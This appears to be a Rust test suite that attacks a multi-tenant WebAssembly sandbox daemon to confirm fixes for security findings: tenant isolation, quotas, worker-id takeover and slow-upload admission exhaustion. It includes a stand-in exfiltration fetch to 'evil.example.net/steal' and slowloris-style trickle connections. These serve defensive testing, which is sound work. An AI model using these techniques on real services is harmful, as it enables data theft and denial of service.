//! The daemon attacked as a tenant or an outsider would (issue 15): principals and their names,
//! quotas, `get(id)` takeover, admission, bounded replies, and the smaller findings. Each test
//! reproduces a finding against a real `wasm-sandbox serve`.

use std::time::{Duration, Instant};

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use wasm_sandbox_tests::daemon::{client, post_json, TempDir, TestDaemon};

const ACME: &str = "acme-token-0123456789abcdef";
const BETA: &str = "beta-token-fedcba9876543210";

fn sha256_hex(token: &str) -> String {
    // The daemon's own helper (the `wasm-sandbox token` command uses it).
    let out = std::process::Command::new(wasm_sandbox_tests::daemon::binary())
        .args(["token", "--hash", token])
        .output();
    match out {
        Ok(o) if o.status.success() => String::from_utf8(o.stdout).unwrap().trim().to_owned(),
        _ => panic!("wasm-sandbox token --hash failed"),
    }
}

/// A daemon with two tenants (and whatever else `extra` configures).
fn two_tenants(dir: &TempDir, extra: &str) -> TestDaemon {
    let cfg = dir.0.join("tenants.toml");
    std::fs::write(
        &cfg,
        format!(
            "{extra}\n[[tenants]]\nname = \"acme\"\ntoken_sha256 = \"{}\"\n[[tenants]]\nname = \"beta\"\ntoken_sha256 = \"{}\"\nmax_in_flight = 8\n",
            sha256_hex(ACME),
            sha256_hex(BETA)
        ),
    )
    .unwrap();
    TestDaemon::start(&dir.0, &["--config", cfg.to_str().unwrap()], &[])
}

async fn send(
    d: &TestDaemon,
    method: reqwest::Method,
    path: &str,
    token: Option<&str>,
    body: Option<&Value>,
) -> (u16, Value) {
    let mut r = client().request(method, d.url(path));
    if let Some(t) = token {
        r = r.bearer_auth(t);
    }
    if let Some(b) = body {
        r = r.json(b);
    }
    let r = r.send().await.unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// `POST /api/run` (no credential) must fail with `status` and an error containing `needle`.
async fn expect_error(d: &TestDaemon, body: Value, status: u16, needle: &str) {
    let (s, v) = post_json(d, "/api/run", &body).await;
    assert_eq!(s, status, "{v}");
    assert!(
        v["error"].as_str().unwrap_or_default().contains(needle),
        "{needle}: {v}"
    );
}

async fn run_as(d: &TestDaemon, token: &str, body: &Value) -> (u16, Value) {
    send(
        d,
        reqwest::Method::POST,
        "/api/run",
        Some(token),
        Some(body),
    )
    .await
}

#[tokio::test]
async fn a_tenant_never_reaches_another_tenants_data_or_workers() {
    let dir = TempDir::new("tenants");
    let d = two_tenants(&dir, "");
    // acme registers a billing worker with its KV namespace and files directory.
    let billing = json!({
        "code": r#"export default { async fetch(req, env) {
            if (req.method === "POST") { await env.X.put("k", "acme-secret"); await env.F.write("f.txt", "acme-file"); }
            return new Response((await env.X.get("k")) + " " + (await env.F.read("f.txt", "text")));
        } };"#,
        "bindings": {
            "X": { "kv": "billing" },
            "F": { "files": { "dir": "billing", "mode": "rw", "quotaBytes": 4096 } }
        }
    });
    let (s, v) = send(
        &d,
        reqwest::Method::PUT,
        "/workers/billing",
        Some(ACME),
        Some(&billing),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let r = client()
        .post(d.url("/workers/billing/x"))
        .bearer_auth(ACME)
        .send()
        .await
        .unwrap();
    assert_eq!(r.text().await.unwrap(), "acme-secret acme-file");
    // The tenant's token is its credential for the daemon: a worker never sees it.
    let spy = json!({ "code": "export default { fetch(r) { return new Response(String(r.headers.get('authorization'))); } };" });
    let (s, _) = send(
        &d,
        reqwest::Method::PUT,
        "/workers/spy",
        Some(ACME),
        Some(&spy),
    )
    .await;
    assert_eq!(s, 201);
    let r = client()
        .get(d.url("/workers/spy/x"))
        .bearer_auth(ACME)
        .send()
        .await
        .unwrap();
    assert_eq!(r.text().await.unwrap(), "null");

    // Without a credential every route that runs code or reads worker data is refused: the
    // finding was an unauthenticated /api/run reading and overwriting that data.
    for (method, path) in [
        (reqwest::Method::POST, "/api/run"),
        (reqwest::Method::POST, "/api/get/x"),
        (reqwest::Method::GET, "/workers/billing"),
        (reqwest::Method::POST, "/workers/billing/x"),
        (reqwest::Method::POST, "/workers/billing/rpc"),
        (reqwest::Method::GET, "/workers/billing/tail"),
        (reqwest::Method::GET, "/usage"),
    ] {
        let (s, _) = send(&d, method.clone(), path, None, Some(&json!({}))).await;
        assert_eq!(s, 401, "{method} {path}");
        let (s, _) = send(
            &d,
            method.clone(),
            path,
            Some("not-a-token-of-anyone"),
            Some(&json!({})),
        )
        .await;
        assert_eq!(s, 401, "{method} {path} with a wrong token");
    }
    let (s, _) = send(&d, reqwest::Method::GET, "/healthz", None, None).await;
    assert_eq!(s, 200);

    // beta names the same namespace and directory: it gets its own, empty ones.
    let attack = json!({
        "code": r#"export default { async fetch(req, env) {
            const before = [await env.X.get("k"), await env.F.read("f.txt", "text")];
            await env.X.put("k", "beta-overwrote"); await env.F.write("f.txt", "beta-overwrote");
            return Response.json(before);
        } };"#,
        "bindings": {
            "X": { "kv": "billing" },
            "F": { "files": { "dir": "billing", "mode": "rw", "quotaBytes": 4096 } }
        }
    });
    let (s, v) = run_as(&d, BETA, &attack).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["output"], "[null,null]");
    // A quota above the tenant's files quota is refused (the finding asked for 1e15).
    let mut greedy = attack.clone();
    greedy["bindings"]["F"]["files"]["quotaBytes"] = json!(1_000_000_000_000_000u64);
    let (s, v) = run_as(&d, BETA, &greedy).await;
    assert_eq!(s, 400, "{v}");
    assert!(v["error"].as_str().unwrap().contains("files quota"), "{v}");
    // Nothing of acme's changed, on disk either.
    let r = client()
        .get(d.url("/workers/billing/x"))
        .bearer_auth(ACME)
        .send()
        .await
        .unwrap();
    assert_eq!(r.text().await.unwrap(), "acme-secret acme-file");
    assert_eq!(
        std::fs::read_to_string(dir.0.join("tenant-files/acme/billing/f.txt")).unwrap(),
        "acme-file"
    );
    // beta cannot see, call, replace or delete acme's worker, nor bind to it.
    let (s, _) = send(
        &d,
        reqwest::Method::GET,
        "/workers/billing",
        Some(BETA),
        None,
    )
    .await;
    assert_eq!(s, 404);
    let r = client()
        .get(d.url("/workers/billing/x"))
        .bearer_auth(BETA)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    let (s, _) = send(
        &d,
        reqwest::Method::DELETE,
        "/workers/billing",
        Some(BETA),
        None,
    )
    .await;
    assert_eq!(s, 404);
    let spy = json!({
        "code": "export default { async fetch(req, env) { return env.B.fetch('https://b/'); } };",
        "bindings": { "B": { "service": "billing" } }
    });
    let (s, v) = run_as(&d, BETA, &spy).await;
    assert_eq!(s, 400, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("not registered"),
        "{v}"
    );
    // Metering is per tenant.
    let (_, v) = send(&d, reqwest::Method::GET, "/usage", Some(BETA), None).await;
    assert!(v["workers"].get("billing").is_none(), "{v}");
    let (_, v) = send(&d, reqwest::Method::GET, "/usage", Some(ACME), None).await;
    assert!(
        v["workers"]["billing"]["requests"].as_u64().unwrap() >= 2,
        "{v}"
    );
}

#[tokio::test]
async fn one_tenants_tail_never_shows_another_tenants_worker() {
    let dir = TempDir::new("tenant-tail");
    let d = two_tenants(&dir, "");
    let code = |who: &str| json!({ "code": format!("export default {{ fetch() {{ console.log('secret of {who}'); return new Response('{who}'); }} }};") });
    for (token, who) in [(ACME, "acme"), (BETA, "beta")] {
        let (s, v) = send(
            &d,
            reqwest::Method::PUT,
            "/workers/same",
            Some(token),
            Some(&code(who)),
        )
        .await;
        assert_eq!(s, 201, "{v}");
    }
    let mut tail = client()
        .get(d.url("/workers/same/tail?format=ndjson"))
        .bearer_auth(BETA)
        .send()
        .await
        .unwrap();
    let _attached = tail.chunk().await.unwrap();
    for token in [ACME, BETA] {
        let r = client()
            .get(d.url("/workers/same/go"))
            .bearer_auth(token)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
    }
    let mut seen = String::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !seen.contains("secret of beta") && Instant::now() < deadline {
        if let Ok(Ok(Some(c))) = tokio::time::timeout(Duration::from_secs(1), tail.chunk()).await {
            seen.push_str(&String::from_utf8_lossy(&c));
        }
    }
    assert!(seen.contains("secret of beta"), "{seen}");
    assert!(!seen.contains("secret of acme"), "{seen}");
}

#[tokio::test]
async fn kv_and_files_quotas_bound_what_one_tenant_can_write() {
    let dir = TempDir::new("quotas");
    let cfg = dir.0.join("q.toml");
    std::fs::write(&cfg, "[quotas]\nkv_mb = 1\nfiles_mb = 1\n").unwrap();
    let d = TestDaemon::start(&dir.0, &["--config", cfg.to_str().unwrap()], &[]);
    // The finding: one request grew the data dir by 600 MB through KV puts and file writes.
    let code = r#"export default { async fetch(req, env) {
        const chunk = "x".repeat(300 * 1024);
        const out = { kv: 0, files: 0 };
        try { for (let i = 0; i < 10; i++) { await env.A.put("k" + i, chunk); out.kv++; } } catch (e) { out.kvError = e.message; }
        try { for (let i = 0; i < 10; i++) { await env.F.write("f" + i, chunk); out.files++; } } catch (e) { out.filesError = e.message; }
        try { for (let i = 0; i < 10; i++) { await env.G.write("g" + i, chunk); out.files++; } } catch (e) { out.filesError2 = e.message; }
        return Response.json(out);
    } };"#;
    let body = json!({
        "code": code,
        "limits": { "cpuMs": 1000 },
        "bindings": {
            "A": { "kv": "a" },
            "F": { "files": { "dir": "f", "mode": "rw", "quotaBytes": 1048576 } },
            "G": { "files": { "dir": "g", "mode": "rw", "quotaBytes": 1048576 } }
        }
    });
    let (s, v) = post_json(&d, "/api/run", &body).await;
    assert_eq!(s, 200, "{v}");
    let out: Value = serde_json::from_str(v["output"].as_str().unwrap()).unwrap();
    assert_eq!(out["kv"], 3, "{out}");
    assert!(
        out["kvError"]
            .as_str()
            .unwrap()
            .contains("KV quota exceeded"),
        "{out}"
    );
    // Two directories share the tenant's files quota.
    assert_eq!(out["files"], 3, "{out}");
    assert!(
        out["filesError2"].as_str().unwrap().contains("files quota"),
        "{out}"
    );
    let (s, v) = post_json(&d, "/api/run", &body).await;
    assert_eq!(s, 200, "{v}");
    let out: Value = serde_json::from_str(v["output"].as_str().unwrap()).unwrap();
    assert_eq!(out["kv"], 3, "overwriting the same keys fits: {out}");
}

#[tokio::test]
async fn an_api_get_id_cannot_be_taken_over() {
    let dir = TempDir::new("takeover");
    let cfg = dir.0.join("small.toml");
    std::fs::write(&cfg, "[engine]\ncache_max_workers = 2\n").unwrap();
    let d = TestDaemon::start(&dir.0, &["--config", cfg.to_str().unwrap()], &[]);
    let victim = json!({ "code": "let n = 0; export default { fetch() { return new Response('victim ' + (++n)); } };" });
    let attacker = json!({ "code": "export default { async fetch(req) { return new Response('attacker saw ' + req.headers.get('x-secret')); } };" });
    let (s, v) = post_json(&d, "/api/get/victim", &victim).await;
    assert_eq!((s, v["output"].clone()), (200, json!("victim 1")), "{v}");
    // Other code under a cached id: 409, and the victim keeps its worker and state.
    let (s, v) = post_json(&d, "/api/get/victim", &attacker).await;
    assert_eq!(s, 409, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("bound to other code"),
        "{v}"
    );
    let (_, v) = post_json(&d, "/api/get/victim", &json!({})).await;
    assert_eq!(v["output"], "victim 2");
    // The finding: after filler ids evict it, the attacker's code was installed under the id.
    for i in 0..5 {
        let (s, _) = post_json(&d, &format!("/api/get/filler-{i}"), &json!({ "code": format!("export default {{ fetch() {{ return new Response('{i}'); }} }};") })).await;
        assert_eq!(s, 200);
    }
    let (s, v) = post_json(&d, "/api/get/victim", &attacker).await;
    assert_eq!(s, 409, "still bound after eviction: {v}");
    // `{}` on a miss does not answer for the victim with the default worker.
    let (s, v) = post_json(&d, "/api/get/victim", &json!({})).await;
    assert_eq!(s, 409, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("send its code again"),
        "{v}"
    );
    let (s, v) = post_json(&d, "/api/get/victim", &victim).await;
    assert_eq!((s, v["output"].clone()), (200, json!("victim 1")), "{v}");
    // Its owner may release the id explicitly.
    let (s, _) = send(&d, reqwest::Method::DELETE, "/api/get/victim", None, None).await;
    assert_eq!(s, 200);
    let (s, v) = post_json(&d, "/api/get/victim", &attacker).await;
    assert_eq!(s, 200, "{v}");
}

/// Open `n` connections that send a request's headers and one byte of a 1000-byte body.
async fn trickle(d: &TestDaemon, n: usize, path: &str) -> Vec<tokio::net::TcpStream> {
    let addr = d.base.trim_start_matches("http://").to_owned();
    let mut conns = Vec::new();
    for _ in 0..n {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        s.write_all(
            format!("POST {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {ACME}\r\ncontent-length: 1000\r\n\r\n{{").as_bytes(),
        )
        .await
        .unwrap();
        conns.push(s);
    }
    conns
}

#[tokio::test]
async fn slow_uploads_and_sleepers_do_not_lock_out_a_bystander() {
    let dir = TempDir::new("admission");
    let d = two_tenants(&dir, "max_concurrent_requests = 16\n");
    // The finding: 64 connections sending headers + 1 body byte held every permit for 30 s.
    let mut slow = trickle(&d, 40, "/api/run").await;
    // ...and scripts that only sleep held every permit too: beta's are capped at its 8.
    let sleeper = json!({ "code": "export default { async fetch() { await new Promise(r => setTimeout(r, 3000)); return new Response('z'); } };" });
    let mut sleepers = Vec::new();
    for _ in 0..20 {
        let url = d.url("/api/run");
        let body = sleeper.clone();
        sleepers.push(tokio::spawn(async move {
            client()
                .post(url)
                .bearer_auth(BETA)
                .json(&body)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }));
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    let started = Instant::now();
    let (s, v) = run_as(
        &d,
        ACME,
        &json!({ "code": "export default { fetch() { return new Response('bystander'); } };" }),
    )
    .await;
    assert_eq!((s, v["output"].clone()), (200, json!("bystander")), "{v}");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    // The trickling bodies are cut off by the minimum upload rate (after the 2 s grace), long
    // before the 30 s body timeout.
    let mut buf = vec![0u8; 256];
    let n = tokio::time::timeout(Duration::from_secs(6), slow[0].read(&mut buf))
        .await
        .expect("answered")
        .unwrap();
    assert!(
        String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 408"),
        "{}",
        String::from_utf8_lossy(&buf[..n])
    );
    let mut statuses = Vec::new();
    for s in sleepers {
        statuses.push(s.await.unwrap());
    }
    assert_eq!(
        statuses.iter().filter(|&&s| s == 200).count(),
        8,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|&&s| s == 429).count(),
        12,
        "{statuses:?}"
    );
}

#[tokio::test]
async fn loops_end_on_the_cpu_limit_not_the_wall_limit() {
    let dir = TempDir::new("loops");
    let d = two_tenants(&dir, "");
    // The finding: 200 loops at cpuMs 1000 all ended on the 30 s wall limit. A tenant's
    // in-flight cap bounds how many run at once, so each gets its CPU.
    let body = json!({ "code": "export default { fetch() { while (true) {} } };", "limits": { "cpuMs": 200 } });
    let mut loops = Vec::new();
    for _ in 0..24 {
        let url = d.url("/api/run");
        let body = body.clone();
        loops.push(tokio::spawn(async move {
            let r = client()
                .post(url)
                .bearer_auth(BETA)
                .json(&body)
                .send()
                .await
                .unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        }));
    }
    let mut ended_on_cpu = 0;
    for l in loops {
        let (status, text) = l.await.unwrap();
        match status {
            429 => {}
            400 => {
                assert!(text.contains("cpu time limit of 200 ms exceeded"), "{text}");
                ended_on_cpu += 1;
            }
            other => panic!("{other}: {text}"),
        }
    }
    assert!(ended_on_cpu >= 8, "{ended_on_cpu} loops ran");
}

#[tokio::test]
async fn replies_are_bounded_and_binary_bodies_are_base64() {
    let dir = TempDir::new("replies");
    let cfg = dir.0.join("r.toml");
    std::fs::write(&cfg, "max_reply_mb = 4\n").unwrap();
    let d = TestDaemon::start(&dir.0, &["--config", cfg.to_str().unwrap()], &[]);
    // The finding: 50 MiB of zero bytes became a 314 MB JSON reply (\u0000 per byte).
    let zeros = |mib: u32| json!({ "code": format!("export default {{ fetch() {{ return new Response(new Uint8Array({mib} * 1024 * 1024)); }} }};"), "limits": { "cpuMs": 1000 } });
    let r = client()
        .post(d.url("/api/run"))
        .json(&zeros(2))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert!(
        text.len() < 3 * 1024 * 1024,
        "reply of {} bytes for 2 MiB",
        text.len()
    );
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["output"], "");
    assert_eq!(
        v["outputBase64"].as_str().unwrap().len(),
        2 * 1024 * 1024 / 3 * 4 + 4
    );
    let (s, v) = post_json(&d, "/api/run", &zeros(8)).await;
    assert_eq!(s, 400, "{v}");
    assert!(v["error"].as_str().unwrap().contains("max_reply_mb"), "{v}");
    // The daemon carries on.
    let (s, _) = post_json(&d, "/api/run", &json!({})).await;
    assert_eq!(s, 200);
}

#[tokio::test]
async fn smaller_findings() {
    let dir = TempDir::new("smaller");
    let d = TestDaemon::start(&dir.0, &[], &[]);
    // console.log('') is charged against the 1 MiB log cap: 62,000 empty lines made 3.6 MB.
    let r = client()
        .post(d.url("/api/run"))
        .json(&json!({ "code": "export default { fetch() { for (let i = 0; i < 62000; i++) console.log(''); return new Response('x'); } };", "env": {}, "limits": { "cpuMs": 1000 } }))
        .send()
        .await
        .unwrap();
    let text = r.text().await.unwrap();
    assert!(text.len() < 1_500_000, "reply of {} bytes", text.len());
    assert!(
        text.contains("console output beyond"),
        "the truncation is said"
    );
    // User code cannot send `101 Switching Protocols` (it passed `_internal: true`);
    // Response.error() and a NUL byte in source are named, not "the sandbox crashed"; unknown
    // top-level fields are refused, naming the field.
    for (body, needle) in [
        (
            json!({ "code": "export default { fetch() { return new Response(null, { status: 101, _internal: true }); } };" }),
            "range 200 to 599",
        ),
        (
            json!({ "code": "export default { fetch() { return Response.error(); } };" }),
            "Response.error()",
        ),
        (
            json!({ "code": "export default { fetch() { return new Response('a'); } };\u{0}" }),
            "NUL byte at worker.js:1:",
        ),
        (
            json!({ "code": "export default {};", "globalOutbund": null }),
            "unknown field `globalOutbund`",
        ),
    ] {
        expect_error(&d, body, 400, needle).await;
    }
    // `//workers/echo/x` is not `/workers/echo/x` (it forwarded the URL `http://xo/x`).
    let r = client()
        .put(d.url("/workers/echo"))
        .json(&json!({ "code": "export default { fetch(r) { return new Response(r.url); } };" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let addr = d.base.trim_start_matches("http://").to_owned();
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(b"GET //workers/echo/x HTTP/1.1\r\nhost: h\r\nconnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut reply = String::new();
    s.read_to_string(&mut reply).await.unwrap();
    assert!(reply.starts_with("HTTP/1.1 404"), "{reply}");
    // Request headers as a record (HeadersInit) as well as pairs.
    let (s, v) = post_json(&d, "/api/run", &json!({ "code": "export default { fetch(r) { return new Response(r.headers.get('x-k')); } };", "request": { "headers": { "x-k": "v" } } })).await;
    assert_eq!((s, v["output"].clone()), (200, json!("v")), "{v}");
}

#[tokio::test]
async fn a_weak_token_is_refused_at_start() {
    let dir = TempDir::new("weak-token");
    let err = TestDaemon::try_start(
        &dir.0,
        &["--listen", "0.0.0.0:0"],
        &[("WASM_SANDBOX_TOKEN", "                ")],
    )
    .err()
    .expect("must refuse");
    assert!(
        err.contains("whitespace") || err.contains("without a token"),
        "{err}"
    );
}

#[tokio::test]
async fn tail_workers_get_trace_items_and_on_denied_fail_ends_the_invocation() {
    let dir = TempDir::new("tails");
    let d = TestDaemon::start(&dir.0, &[], &[]);
    let collector = json!({
        "code": r#"export default {
            async tail(events, env) { await env.KV.put("last", JSON.stringify(events)); },
            async fetch(req, env) { return new Response(await env.KV.get("last") || "none"); },
        };"#,
        "bindings": { "KV": { "kv": "tails" } }
    });
    let (s, v) = send(
        &d,
        reqwest::Method::PUT,
        "/workers/collector",
        None,
        Some(&collector),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let traced = json!({
        "code": "export default { fetch(req) { console.log('hello from traced'); return new Response('ok'); } };",
        "tails": ["collector"]
    });
    let (s, v) = send(
        &d,
        reqwest::Method::PUT,
        "/workers/traced",
        None,
        Some(&traced),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let r = client()
        .get(d.url("/workers/traced/x"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.text().await.unwrap(), "ok");
    let deadline = Instant::now() + Duration::from_secs(10);
    let events: Value = loop {
        let text = client()
            .get(d.url("/workers/collector/"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        if text != "none" {
            break serde_json::from_str(&text).unwrap();
        }
        assert!(Instant::now() < deadline, "no tail delivery");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let item = &events[0];
    assert_eq!(item["scriptName"], "traced", "{item}");
    assert_eq!(item["outcome"], "ok", "{item}");
    assert_eq!(item["logs"][0]["message"][0], "hello from traced", "{item}");
    assert!(
        item["event"]["request"]["url"]
            .as_str()
            .unwrap()
            .ends_with("/x"),
        "{item}"
    );
    assert_eq!(item["event"]["response"]["status"], 200, "{item}");
    // A tail worker that is not registered, or too many, is refused up front.
    let (s, _) = post_json(
        &d,
        "/api/run",
        &json!({ "code": "export default {};", "tails": ["a", "b", "c", "d", "e"] }),
    )
    .await;
    assert_eq!(s, 400);

    // onDenied: "fail": the first denied fetch ends the invocation even if the script catches it.
    let agent = json!({
        "code": r#"export default { async fetch() {
            try { await fetch("https://evil.example.net/steal"); } catch (e) {}
            return new Response("carried on");
        } };"#,
        "globalOutbound": { "allow": ["https://api.example.com"], "onDenied": "fail" }
    });
    let (s, v) = post_json(&d, "/api/run", &agent).await;
    assert_eq!(s, 400, "{v}");
    let err = v["error"].as_str().unwrap();
    assert!(
        err.contains("ends the invocation") && err.contains("evil.example.net"),
        "{v}"
    );
    // Without it, the script may catch the denial and carry on.
    let mut lenient = agent.clone();
    lenient["globalOutbound"]["onDenied"] = json!("error");
    let (s, v) = post_json(&d, "/api/run", &lenient).await;
    assert_eq!((s, v["output"].clone()), (200, json!("carried on")), "{v}");
}

#[tokio::test]
async fn a_tenant_registers_at_most_its_workers() {
    let dir = TempDir::new("max-workers");
    let d = two_tenants(&dir, "[quotas]\nworkers = 2\n");
    let spec = json!({ "code": "export default { fetch() { return new Response('w'); } };" });
    let put = |id: &'static str, token: &'static str| {
        let (d, spec) = (&d, spec.clone());
        async move {
            send(
                d,
                reqwest::Method::PUT,
                &format!("/workers/{id}"),
                Some(token),
                Some(&spec),
            )
            .await
        }
    };
    assert_eq!(put("a1", ACME).await.0, 201);
    assert_eq!(put("a2", ACME).await.0, 201);
    // The red-team gap: no per-tenant count of registered workers.
    let (s, v) = put("a3", ACME).await;
    assert_eq!(s, 403, "{v}");
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("2 registered workers"),
        "{v}"
    );
    // A new version of an existing id is not a new worker; the other tenant has its own count.
    assert_eq!(put("a2", ACME).await.0, 200);
    assert_eq!(put("b1", BETA).await.0, 201);
    assert_eq!(put("b2", BETA).await.0, 201);
    // Deleting one makes room again.
    let (s, _) = send(&d, reqwest::Method::DELETE, "/workers/a1", Some(ACME), None).await;
    assert_eq!(s, 200);
    assert_eq!(put("a3", ACME).await.0, 201);
}

#[tokio::test]
async fn files_count_entries_as_well_as_bytes() {
    let dir = TempDir::new("files-entries");
    let cfg = dir.0.join("q.toml");
    std::fs::write(&cfg, "[quotas]\nfiles_entries = 6\n").unwrap();
    let d = TestDaemon::start(&dir.0, &["--config", cfg.to_str().unwrap()], &[]);
    // The red-team gap: empty files and folders were free (up to 100,000 a quota walk reads).
    let code = r#"export default { async fetch(req, env) {
        let made = 0, error;
        try { for (let i = 0; i < 50; i++) { await env.F.write("d" + i + "/e", ""); made++; } } catch (e) { error = e.message; }
        let again = "no";
        try { await env.F.write("d0/e", "rewrite"); again = "yes"; } catch (e) { again = e.message; }
        return Response.json({ made, error, again });
    } };"#;
    let (s, v) = post_json(
        &d,
        "/api/run",
        &json!({ "code": code, "bindings": { "F": { "files": { "dir": "f", "mode": "rw", "quotaBytes": 1000 } } } }),
    )
    .await;
    assert_eq!(s, 200, "{v}");
    let out: Value = serde_json::from_str(v["output"].as_str().unwrap()).unwrap();
    // The directory `f` itself is one entry of the tenant's root; each write adds a folder and
    // a file: 1 + 2 + 2 + ... stays within 6 for two writes.
    assert_eq!(out["made"], 2, "{out}");
    assert!(
        out["error"]
            .as_str()
            .unwrap()
            .contains("at most 6 files and folders"),
        "{out}"
    );
    // Rewriting an existing file adds nothing.
    assert_eq!(out["again"], "yes", "{out}");
}

#[tokio::test]
async fn usage_totals_are_the_tenants_own() {
    let dir = TempDir::new("usage-tenants");
    let d = two_tenants(&dir, "");
    for _ in 0..3 {
        assert_eq!(run_as(&d, ACME, &json!({ "code": "" })).await.0, 200);
    }
    let (s, acme) = send(&d, reqwest::Method::GET, "/usage", Some(ACME), None).await;
    assert_eq!(s, 200, "{acme}");
    let (s, beta) = send(&d, reqwest::Method::GET, "/usage", Some(BETA), None).await;
    assert_eq!(s, 200, "{beta}");
    // The red-team gap: `anonymous` and `days` were the daemon's totals, shown to every tenant.
    assert_eq!(acme["anonymous"]["requests"], 3, "{acme}");
    assert_eq!(acme["days"][0]["requests"], 3, "{acme}");
    assert_eq!(acme["days"][0]["uniqueWorkersLoaded"], 3, "{acme}");
    assert_eq!(beta["anonymous"]["requests"], 0, "{beta}");
    assert!(
        beta["days"]
            .as_array()
            .unwrap()
            .iter()
            .all(|d| d["requests"] == 0),
        "{beta}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tools_callbacks_are_per_tenant_and_say_which_tenant_calls() {
    let up = wasm_sandbox_tests::upstream::Upstream::start().await;
    let dir = TempDir::new("tools-tenants");
    let cfg = dir.0.join("tenants.toml");
    // No daemon-wide callbacks; acme has its own.
    std::fs::write(
        &cfg,
        format!(
            "[[tenants]]\nname = \"acme\"\ntoken_sha256 = \"{}\"\ntools_callbacks = [\"{}/echo\"]\n[[tenants]]\nname = \"beta\"\ntoken_sha256 = \"{}\"\n",
            sha256_hex(ACME),
            up.base(),
            sha256_hex(BETA)
        ),
    )
    .unwrap();
    let d = TestDaemon::start(&dir.0, &["--config", cfg.to_str().unwrap()], &[]);
    let body = json!({
        "code": "export default { async fetch(req, env) { return Response.json(await env.T.look({})); } };",
        "bindings": { "T": { "tools": { "url": format!("{}/echo", up.base()), "tools": [{ "name": "look" }] } } }
    });
    let (s, v) = run_as(&d, ACME, &body).await;
    assert_eq!(s, 200, "{v}");
    let seen = up.seen();
    let call = seen
        .iter()
        .find(|r| r.path == "/echo")
        .expect("the callback was called");
    assert!(
        call.headers
            .iter()
            .any(|(k, v)| k == "x-sandbox-tenant" && v == "acme"),
        "{:?}",
        call.headers
    );
    // beta may not use acme's callback.
    let (s, v) = run_as(&d, BETA, &body).await;
    assert_eq!(s, 400, "{v}");
    assert!(v["error"].as_str().unwrap().contains("not allowed"), "{v}");
}
